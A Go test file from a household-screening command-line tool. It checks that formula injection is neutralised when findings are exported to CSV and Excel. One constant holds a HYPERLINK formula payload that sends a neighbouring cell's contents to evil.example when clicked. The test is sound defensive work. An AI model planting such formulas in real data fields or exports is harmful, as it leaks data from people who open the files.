package cli

import (
	"context"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/gonggu/gonggu/internal/region"
	"github.com/gonggu/gonggu/internal/store"
)

// hyperlink is a 姓名 as an attacker types it into the web form: opened in Excel or WPS as a
// formula, it would send the neighbouring cell to evil.example when clicked.
const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"点击核实")`

// TestFindingsExportNeutralisesFormulas puts a household whose member is named by a formula
// into a real SQLite file, screens it, and exports the findings: in the csv the explanation
// that begins with the name begins with an apostrophe, and in the 疑点清单 workbook it is a
// string cell without a formula.
func TestFindingsExportNeutralisesFormulas(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "inject.db")
	tree, err := region.LoadArea("621121000000")
	if err != nil {
		t.Fatal(err)
	}
	villages := tree.Children("621121100000")
	a := e2eHousehold(villages[0].Code)
	a.Persons[1].Name = hyperlink // the member without medical insurance: I1 names her first
	sdb, err := store.Open(context.Background(), db, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := store.NewRegistry(sdb).Put(context.Background(), &a); err != nil {
		t.Fatal(err)
	}
	sdb.Close()
	if code, out, errs := runCmd(t, "screen", "--db", db); code != 0 {
		t.Fatalf("screen: %d\n%s\n%s", code, out, errs)
	}

	code, out, errs := runCmd(t, "findings", "--db", db, "--format", "csv")
	if code != 0 {
		t.Fatalf("findings: %d %s", code, errs)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for _, r := range recs[1:] {
		cell := r[9]
		if strings.HasPrefix(cell, "'"+hyperlink) {
			found++
		}
		if strings.HasPrefix(cell, "=") {
			t.Errorf("explanation cell %q is a formula", cell)
		}
	}
	if found == 0 {
		t.Fatalf("no finding names the member by the formula with an apostrophe in front:\n%s", out)
	}

	xlsx := filepath.Join(dir, "疑点清单.xlsx")
	if code, out, errs := runCmd(t, "findings", "--db", db, "--format", "xlsx", "--out", xlsx); code != 0 {
		t.Fatalf("xlsx: %s %s", out, errs)
	}
	f, err := excelize.OpenFile(xlsx)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	found = 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, v := range row {
				if !strings.Contains(v, hyperlink) {
					continue
				}
				found++
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				assertTextCell(t, f, sheet, cell)
			}
		}
	}
	if found == 0 {
		t.Error("the workbook does not hold the name")
	}
}

// assertTextCell fails unless the cell holds a string and no formula.
func assertTextCell(t *testing.T, f *excelize.File, sheet, cell string) {
	t.Helper()
	if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
		t.Errorf("%s!%s has the formula %q (%v)", sheet, cell, formula, err)
	}
	typ, err := f.GetCellType(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	switch typ {
	case excelize.CellTypeSharedString, excelize.CellTypeInlineString:
	default:
		t.Errorf("%s!%s has the type %v, want a string", sheet, cell, typ)
	}
}
